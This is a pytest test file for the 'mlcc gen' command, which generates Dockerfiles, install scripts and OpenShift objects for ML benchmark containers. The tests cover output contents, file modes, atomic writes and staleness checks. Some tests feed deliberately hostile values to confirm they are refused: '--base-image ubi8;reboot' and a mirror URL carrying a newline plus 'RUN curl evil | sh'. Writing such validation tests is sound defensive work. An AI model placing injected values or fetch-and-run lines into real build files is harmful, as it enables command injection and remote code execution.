"""`mlcc gen`: what it writes, what it refuses, and that it never leaves half a file."""

from __future__ import annotations

import os
import stat
from pathlib import Path

from tests.conftest import REPO, run_mlcc

SEED = "maskrcnn/cuda10.1-cudnn7-ubi8-x86_64"


def test_seed_command_writes_the_variant_folder(cli, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    result = cli("gen", "maskrcnn", "--cuda", "10.1", "-o", str(tmp_path))
    assert result.code == 0, result.err
    folder = tmp_path / SEED
    assert sorted(p.name for p in folder.iterdir()) == ["Dockerfile", "mlcc-record", "scripts", "stack.json"]
    for name in ("Dockerfile", "mlcc-record", "stack.json"):
        assert f"created   {folder / name}" in result.out
    assert stat.S_IMODE((folder / "mlcc-record").stat().st_mode) == 0o755
    assert stat.S_IMODE((folder / "Dockerfile").stat().st_mode) == 0o644
    assert "#   mlcc gen maskrcnn --cuda 10.1\n" in (folder / "Dockerfile").read_text()
    again = cli("gen", "maskrcnn", "--cuda", "10.1", "-o", str(tmp_path))
    assert again.code == 0 and "nothing changed" in again.out


def test_seed_command_output_equals_the_committed_file(cli, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    assert cli("gen", "maskrcnn", "--cuda", "10.1", "-o", str(tmp_path)).code == 0
    for name in ("Dockerfile", "stack.json", "mlcc-record"):
        assert (tmp_path / SEED / name).read_bytes() == (REPO / "dockerfiles" / SEED / name).read_bytes()


def test_formats_write_their_main_file(cli, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    assert cli("gen", "resnet50", "--format", "script", "-o", str(tmp_path)).code == 0
    assert cli("gen", "resnet50", "--format", "singularity", "-o", str(tmp_path)).code == 0
    folder = tmp_path / "resnet50" / "cuda10.1-cudnn7-ubi8-x86_64"
    names = sorted(p.name for p in folder.iterdir())
    # the folder keeps the latest rendering's files, and the other format's main file
    assert names == ["Singularity.def", "install.sh", "mlcc-record", "stack.json"]
    assert cli("gen", "resnet50", "--format", "script", "-o", str(tmp_path)).code == 0
    assert stat.S_IMODE((folder / "install.sh").stat().st_mode) == 0o755


def test_unknown_format_is_a_usage_error(cli, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    result = cli("gen", "ssd", "--format", "rpm", "-o", str(tmp_path / "out"))
    assert result.code == 2
    assert "rpm" in result.err and "dockerfile" in result.err
    assert not (tmp_path / "out").exists() and not Path("buildconfigs").exists()


def test_output_that_is_not_a_writable_directory(cli, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    blocker = tmp_path / "file"
    blocker.write_text("not a folder")
    result = cli("gen", "ssd", "-o", str(blocker / "out"))
    assert result.code == 2
    assert f"cannot write to {blocker / 'out'}" in result.err and "-o DIR" in result.err
    assert "Traceback" not in result.err


def test_a_failed_write_leaves_no_partial_files(cli, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    folder = tmp_path / SEED
    (folder / "stack.json").mkdir(parents=True)  # a directory where a file must go
    result = cli("gen", "maskrcnn", "--cuda", "10.1", "-o", str(tmp_path))
    assert result.code == 2, result.err
    assert "cannot write" in result.err and "stack.json" in result.err
    leftovers = [p.name for p in folder.iterdir() if p.name.startswith(".")]
    assert leftovers == []
    dockerfile = folder / "Dockerfile"
    if dockerfile.exists():  # written before the failure: then it is complete
        assert dockerfile.read_text().rstrip().endswith('ENTRYPOINT ["./run_and_time.sh"]')


def test_a_conflict_writes_nothing(cli, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    result = cli("gen", "maskrcnn", "--cuda", "9.0", "-o", str(tmp_path / "out"))
    assert result.code == 3
    assert not (tmp_path / "out").exists() and not Path("buildconfigs").exists()


def test_bad_overrides_exit_2_and_write_nothing(cli, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    result = cli("gen", "ssd", "--base-image", "ubi8;reboot", "-o", str(tmp_path / "out"))
    assert result.code == 2 and "--base-image" in result.err
    result = cli("gen", "ssd", "--mirror", "file:///etc", "-o", str(tmp_path / "out"))
    assert result.code == 2 and "--mirror" in result.err
    assert not (tmp_path / "out").exists() and not Path("buildconfigs").exists()


def test_all_and_check_usage(cli, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    assert cli("gen", "ssd", "--check", "-o", str(tmp_path)).code == 2
    assert cli("gen", "ssd", "--all", "-o", str(tmp_path)).code == 2
    assert cli("gen", "--all", "--cuda", "10.1", "-o", str(tmp_path)).code == 2
    assert cli("gen", "-o", str(tmp_path)).code == 2


def test_check_reports_stale_missing_and_foreign_files(cli, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    assert cli("gen", "--all", "-o", str(tmp_path)).code == 0
    assert cli("gen", "--all", "--check", "-o", str(tmp_path)).code == 0
    dockerfile = tmp_path / SEED / "Dockerfile"
    dockerfile.write_text(dockerfile.read_text().replace("numactl", "numactl htop"))
    (tmp_path / "ssd" / "old-variant").mkdir()
    (tmp_path / "ssd" / "old-variant" / "Dockerfile").write_text("FROM scratch\n")
    record = next((tmp_path / "gnmt").glob("*/mlcc-record"))
    os.chmod(record, 0o644)
    result = cli("gen", "--all", "--check", "-o", str(tmp_path))
    assert result.code == 7
    assert f"stale: {dockerfile}" in result.err
    assert "not generated (remove it)" in result.err and "old-variant" in result.err
    assert f"mode: {record}" in result.err
    assert "mlcc gen --all" in result.err
    # and regenerating repairs all of it
    fixed = cli("gen", "--all", "-o", str(tmp_path))
    assert fixed.code == 0
    assert f"removed   {tmp_path / 'ssd' / 'old-variant' / 'Dockerfile'}" in fixed.out
    assert cli("gen", "--all", "--check", "-o", str(tmp_path)).code == 0


def test_committed_dockerfiles_are_up_to_date() -> None:
    """What CI runs: a real process, from the repository root."""
    result = run_mlcc(["gen", "--all", "--check"])
    assert result.code == 0, result.err
    assert "up to date" in result.out


def test_gen_works_when_the_cache_folder_is_unusable(tmp_path: Path) -> None:
    """The caches (knowledge base, package index) only ever cost speed."""
    blocker = tmp_path / "cache-is-a-file"
    blocker.write_text("")
    out = tmp_path / "out"
    result = run_mlcc(["gen", "ssd", "-o", str(out)], cwd=tmp_path, MLCC_CACHE_DIR=str(blocker / "sub"))
    assert result.code == 0, result.err
    assert (out / "ssd").is_dir()


def test_gen_imports_no_template_engine(tmp_path: Path) -> None:
    """The format writers are plain Python: Jinja2 (~50 ms of imports and template
    compiles) stays off the start-up path of `mlcc gen`; only `mlcc report` uses it."""
    result = run_mlcc(
        ["gen", "maskrcnn", "--cuda", "10.1", "-o", str(tmp_path / "out")],
        cwd=tmp_path,
        PYTHONPROFILEIMPORTTIME="1",
    )
    assert result.code == 0, result.err
    imported = [line.rsplit("|", 1)[-1].strip() for line in result.err.splitlines() if "import time:" in line]
    assert "mlcc.render.formats.dockerfile" in imported  # the trace is real
    assert [name for name in imported if name.split(".")[0] in ("jinja2", "markupsafe")] == []


def test_line_breaks_in_option_values_are_refused(cli, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    out = tmp_path / "out"
    for args in (
        ["--mirror", "https://mirror.example.com\nRUN curl evil | sh"],
        ["--base-image", "registry.example.com/ubi8:8.10\n"],
        ["--namespace", "bench\n"],
    ):
        result = cli("gen", "ssd", "-o", str(out), *args)
        assert result.code == 2, (args, result.out)
    assert not out.exists()
    # a version pin is normalised, not refused: surrounding whitespace never reaches a file
    assert cli("gen", "ssd", "-o", str(out), "--cuda", "10.1\n").code == 0
    assert "#   mlcc gen ssd --cuda 10.1\n" in next(out.rglob("Dockerfile")).read_text()


def test_gen_prints_output_folders_as_pathlib_spells_them(cli) -> None:  # type: ignore[no-untyped-def]
    """What users read: "./out//" is "out", a variant's files follow it."""
    result = cli("gen", "maskrcnn", "--cuda", "10.1", "-o", "./out//", "--openshift-output", "oc/./x/")
    assert result.code == 0, result.err
    lines = result.out.splitlines()
    assert "created   out/maskrcnn/cuda10.1-cudnn7-ubi8-x86_64/Dockerfile" in lines
    assert "created   oc/x/maskrcnn/maskrcnn.yaml" in lines
    again = cli("gen", "maskrcnn", "--cuda", "10.1", "-o", "./out//", "--openshift-output", "oc/./x/")
    assert again.out.splitlines()[-1] == "nothing changed under out and oc/x"


def test_gen_o_places_the_openshift_objects_under_the_same_folder(cli) -> None:  # type: ignore[no-untyped-def]
    result = cli("gen", "ssd", "-o", "out")
    assert result.code == 0, result.err
    assert "created   out/openshift/ssd/ssd.yaml" in result.out.splitlines()
    assert not Path("buildconfigs").exists() and not Path("dockerfiles").exists()
    assert Path("out/ssd/cuda10.1-cudnn7-ubi8-x86_64/Dockerfile").is_file()
    # --openshift-output still says where, and without -o the defaults stay
    assert cli("gen", "ssd", "-o", "out", "--openshift-output", "oc").code == 0
    assert Path("oc/ssd/ssd.yaml").is_file()
    assert cli("gen", "ssd").code == 0
    assert Path("buildconfigs/ssd/ssd.yaml").is_file() and Path("dockerfiles/ssd").is_dir()
